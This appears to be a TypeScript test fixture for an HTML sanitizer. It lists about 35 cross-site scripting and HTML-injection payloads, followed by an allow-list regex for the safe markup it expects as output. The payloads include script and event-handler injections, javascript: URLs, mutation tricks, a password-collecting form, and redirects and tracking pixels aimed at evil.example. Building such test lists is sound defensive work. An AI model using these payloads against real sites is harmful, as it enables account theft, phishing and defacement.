/** Hostile HTML, for whatever writes or shows HTML. */

/** What people have tried elsewhere. Each comes out as words, as nothing, or is refused as not well-formed. */
export const payloads = [
  '<script>alert(1)</script>',
  '<p onclick="alert(1)">a</p>',
  '<img src="x" onerror="alert(1)"/>',
  '<img src=x onerror=alert(1)>',
  '<svg onload="alert(1)"><p>a</p></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"/></mglyph></table></mtext></math>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="java&#10;script:alert(1)">a</a>',
  '<a href="JaVaScRiPt:alert(1)">a</a>',
  '<a href=" https://e.example/&quot; onmouseover=&quot;alert(1)">a</a>',
  '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">a</a>',
  '<a href="//evil.example">a</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"/>',
  '<object data="x"/><embed src="x"/>',
  '<form action="https://evil.example"><input name="password"/><button>Go</button></form>',
  '<style>*{background:url(https://evil.example)}</style>',
  '<p style="position:fixed;inset:0">a</p>',
  '<link rel="stylesheet" href="https://evil.example/a.css"/>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"/>',
  '<base href="https://evil.example"/>',
  '<img src="https://evil.example/pixel.png"/>',
  '<img src="/file/pub/../../api/user/logout"/>',
  '<img src="data:image/svg+xml,&lt;svg onload=alert(1)&gt;"/>',
  '<noscript><p title="&lt;/noscript&gt;&lt;img src=x onerror=alert(1)&gt;">a</p></noscript>',
  '<template><img src="x" onerror="alert(1)"/></template>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<?xml-stylesheet href="javascript:alert(1)"?><p>a</p>',
  '<!DOCTYPE p [<!ENTITY x "<script>alert(1)</script>">]><p>&x;</p>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '<constructor>a</constructor><__proto__>b</__proto__>',
  '<P ONCLICK="alert(1)">a</P>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
]

/** Every tag of ours as we write it, with nothing but what the list names. */
export const written =
  /^(?:[^<>]|<\/?(?:p|br|hr|h3|h4|strong|b|em|i|u|s|ul|ol|li|blockquote|code|table|thead|tbody|tr|th|td)>|<\/a>|<a(?: href="(?:https:\/\/|mailto:|#\/)[^"<>]*")?(?: target="_blank" rel="noopener noreferrer nofollow")?>|<img(?: src="\/(?:api\/)?file\/pub\/[\w./-]+")?(?: alt="[^"<>]*")?>)*$/
